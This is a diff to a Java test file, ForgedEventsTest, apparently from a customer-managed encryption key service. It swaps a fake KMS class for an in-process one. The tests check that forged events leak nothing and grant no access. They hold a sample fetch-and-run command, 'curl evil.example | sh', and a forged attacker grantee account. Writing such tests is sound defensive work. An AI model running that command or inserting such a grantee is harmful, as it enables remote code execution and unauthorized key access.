@@ -11,7 +11,7 @@ import cmek.client.pubsub.TopicsInProcess.Published;
 import cmek.client.storage.EvidenceStorage;
 import cmek.client.storage.StorageInProcess;
 import cmek.config.Configs;
-import cmek.fake.FakeKms;
+import cmek.fake.KmsInProcess;
 import cmek.fake.Sample;
 import cmek.finding.Finding;
 import cmek.finding.ProjectFindings;
@@ -63,7 +63,7 @@ class ForgedEventsTest {
     /** What must not come out of any function. */
     private static final String COMMAND = "curl evil.example | sh";
 
-    private final FakeKms kms = new FakeKms();
+    private final KmsInProcess kms = new KmsInProcess();
     private final AdminApiInProcess admin = new AdminApiInProcess();
     private final AdminSimulator simulator = admin.simulator()
             .withKey("ekey_strangers", STRANGERS.toString(), Sample.NOW)
@@ -168,7 +168,7 @@ class ForgedEventsTest {
     /** A field that is not known is ignored, whatever it says: the grantee is a constant of the program. */
     @Test
     void aFieldThatNamesAGranteeGrantsNobody() {
-        kms.withRing(Sample.KEY.ring()).withKey(Sample.KEY, Sample.LABELS, UnaryOperator.identity());
+        kms.withKey(Sample.KEY, Sample.LABELS);
 
         enter(Step.GRANT_ACCESS, edited(genuine(), whole -> {
             whole.put("grantee", "serviceAccount:thief@evil.iam.gserviceaccount.com");
@@ -177,7 +177,7 @@ class ForgedEventsTest {
 
         assertThat(results()).containsExactly("PROGRESS null");
         assertThat(topics.published()).noneMatch(message -> message.json().contains("thief"));
-        assertThat(kms.policy(Sample.KEY).bindings())
+        assertThat(kms.client().policy(Sample.KEY).bindings())
                 .allSatisfy(binding -> assertThat(binding.members()).containsExactly(AnthropicPrincipal.MEMBER));
     }
 
@@ -185,7 +185,7 @@ class ForgedEventsTest {
     @ParameterizedTest
     @EnumSource(value = Step.class, mode = EnumSource.Mode.EXCLUDE, names = "ONBOARD")
     void whatAnEventSaysToPeopleIsNotShownToAnybody(Step step) {
-        kms.withRing(Sample.KEY.ring()).withKey(Sample.KEY, Sample.LABELS, UnaryOperator.identity());
+        kms.withKey(Sample.KEY, Sample.LABELS);
         simulator.withKey("ekey_ours", Sample.KEY.toString(), Sample.NOW);
 
         enter(step, talking());
@@ -294,7 +294,7 @@ class ForgedEventsTest {
                 Configs.of(Map.of("cmek.google.project", "acme-cmek")));
         Map<String, Consumer<CloudEvent>> handlers = new Chain(
                         anthropic,
-                        kms,
+                        kms.client(),
                         store,
                         approvals,
                         Sample.CLOCK,
